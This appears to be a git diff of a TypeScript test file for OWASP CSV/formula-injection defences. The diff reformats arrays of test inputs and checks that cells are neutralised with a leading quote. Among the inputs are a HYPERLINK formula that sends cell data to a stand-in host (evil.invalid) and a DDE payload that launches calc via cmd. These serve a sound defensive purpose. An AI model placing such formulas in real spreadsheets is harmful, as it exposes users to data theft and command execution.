@@ -4,7 +4,15 @@ import { safeCell, safeRow, startsLikeFormula } from '../../api/spreadsheet/safe
 
 describe('spreadsheet cells (OWASP CSV injection)', () => {
   it('neutralises text that begins with = + - @, a tab or a carriage return with a leading quote', () => {
-    for (const value of ['=HYPERLINK("http://evil.invalid?x="&A1,"点我")', '+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', ' =1+1']) {
+    for (const value of [
+      '=HYPERLINK("http://evil.invalid?x="&A1,"点我")',
+      '+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1',
+      '\r=1',
+      ' =1+1',
+    ]) {
       expect(startsLikeFormula(value), JSON.stringify(value)).toBe(true);
       expect(safeCell(value)).toBe(`'${value}`);
     }
@@ -21,11 +29,15 @@ describe('spreadsheet cells (OWASP CSV injection)', () => {
 
   it('gives ExcelJS rows whose cells are text, never formulas', async () => {
     const workbook = new ExcelJS.Workbook();
-    workbook.addWorksheet('教师').addRow(safeRow(['=cmd|\' /C calc\'!A0', '+1', 42]));
+    workbook.addWorksheet('教师').addRow(safeRow(["=cmd|' /C calc'!A0", '+1', 42]));
     const read = new ExcelJS.Workbook();
     await read.xlsx.load(await workbook.xlsx.writeBuffer());
     const row = read.worksheets[0]!.getRow(1);
-    expect([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]).toEqual(["'=cmd|' /C calc'!A0", "'+1", 42]);
+    expect([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]).toEqual([
+      "'=cmd|' /C calc'!A0",
+      "'+1",
+      42,
+    ]);
     expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
   });
 });
